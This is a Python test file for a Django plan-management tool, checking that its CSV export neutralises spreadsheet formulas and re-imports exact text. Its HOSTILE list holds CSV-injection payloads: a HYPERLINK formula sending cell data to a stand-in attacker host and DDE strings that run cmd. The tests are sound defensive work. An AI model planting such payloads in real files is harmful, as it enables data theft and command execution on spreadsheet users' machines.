"""CSV written for people never holds a live formula: `tiltak export` neutralises cells that a
spreadsheet would run (OWASP), and importing the file again gives back the exact text."""

from __future__ import annotations

import argparse
import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tiltak.documents.model import PlanDocument
from tiltak.imports import cli
from tiltak.plans.models import Organisation, Plan
from tiltak.rounds.exchange import export_rounds, import_exchange, read_exchange
from tiltak.rounds.importing import import_plan_document
from tiltak.safe_csv import FORMULA_STARTS, neutralise, restore

SLUG = "opptrappingsplan-mot-vold-og-overgrep-2024-2028"
HYPERLINK = '=HYPERLINK("http://angriper.example/?d="&A1;"Klikk her")'
HOSTILE = [HYPERLINK, "+47 22 24 90 90", "-1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
           "\t=1+1", "\r=1+1", "'=allerede sitert"]  # fmt: skip


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _export(*argv: str) -> int:
    parser = argparse.ArgumentParser(prog="tiltak")
    cli.register(parser.add_subparsers(required=True))
    args = parser.parse_args(["export", *argv])
    code: int = args.handler(args)
    return code


@given(st.text())
def test_neutralise_is_undone_by_restore_and_never_starts_a_formula(text: str) -> None:
    safe = neutralise(text)
    assert restore(safe) == text
    assert not safe.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_gets_a_single_quote_in_front(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Tekst", "", "2026-06", "'sitat'", "12 b", "«=»"])
def test_other_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text == restore(text)


@pytest.mark.django_db
def test_tiltak_export_csv_neutralises_formulas_and_imports_back_exactly(
    tmp_path: Path, make_document: Callable[..., PlanDocument]
) -> None:
    document = make_document()
    for measure, text in zip(document.measures, HOSTILE, strict=False):
        measure.narrative = text
    document.measures[0].title = "-Tittel som starter med minus"
    import_plan_document(document, source_name="a.txt", source_sha256="a" * 64)
    stored = [row.values() for row in export_rounds(Plan.objects.get(slug=SLUG))]
    out = tmp_path / "eksport.csv"
    assert _export(SLUG, "-o", str(out)) == 0
    data = out.read_bytes()

    cells = _cells(data)
    assert len(cells) == len(stored) + 1
    assert all(not cell.startswith(FORMULA_STARTS) for row in cells for cell in row)
    narratives = [row[-1] for row in cells[1:]]
    assert narratives[0] == "'" + HYPERLINK
    assert cells[1][8] == "'-Tittel som starter med minus"
    assert HYPERLINK not in [cell for row in cells for cell in row]

    Plan.objects.all().delete()
    Organisation.objects.all().delete()
    import_exchange(read_exchange(data, source="eksport.csv"), source_name="eksport.csv")
    again = [row.values() for row in export_rounds(Plan.objects.get(slug=SLUG))]
    assert again == stored
    assert again[0][-1] == HYPERLINK
